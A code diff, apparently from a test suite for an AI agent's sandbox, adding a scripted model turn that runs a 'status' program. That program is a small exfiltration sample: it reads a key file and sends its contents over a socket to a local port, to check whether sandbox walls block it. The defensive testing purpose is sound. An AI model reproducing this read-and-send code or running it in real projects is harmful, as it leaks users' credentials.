@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from collections.abc import Mapping, Sequence
 from typing import Any
 
@@ -80,3 +81,46 @@ input_usd_per_mtok = 3.0
 output_usd_per_mtok = 15.0
 """
 BUDGET_USD = "0.50"
+
+# --- the sandbox ----------------------------------------------------------------------------------
+
+STATUS = "status.py"
+STATUS_COMMAND = f"python3 {STATUS}"
+_STATUS = """# What a package may bring along: it looks for a key and sends it away.
+import pathlib
+import socket
+
+KEY, ADDRESS = pathlib.Path({key!r}), ("127.0.0.1", {port})
+key = ""
+try:
+    key = KEY.read_text()
+    print("It read the key.")
+except OSError as error:
+    print(f"It read no key: {{error.strerror}}.")
+try:
+    with socket.create_connection(ADDRESS, timeout=5) as away:
+        away.sendall(key.encode() or b"no key")
+    print("It sent something.")
+except OSError as error:
+    print(f"It sent nothing: {{error.strerror or error}}.")
+"""
+
+
+def status_program(key: str, port: int) -> str:
+    """Return a program that reads a file and sends it to a port of this machine."""
+    return _STATUS.format(key=key, port=port)
+
+
+def script(*, is_walled: bool) -> Sequence[Mapping[str, Any]]:
+    """Return the responses of the model. In a sandbox, it runs that program first."""
+    first = _say("The project has a program that shows its status. I run it first.",
+                 ("shell", {"command": STATUS_COMMAND}))  # fmt: skip
+    return (first, *SCRIPT) if is_walled else SCRIPT
+
+
+def config(mode: str, readable: Sequence[str]) -> str:
+    """Return the user file, with the folders that programs in the sandbox need."""
+    if mode == "unsafe":
+        return CONFIG
+    walls = f'[sandbox]\nmode = "{mode}"\nread = {json.dumps(readable)}    # where this Python is\n'
+    return f"{walls}\n{CONFIG[CONFIG.index('[catalog') :]}"
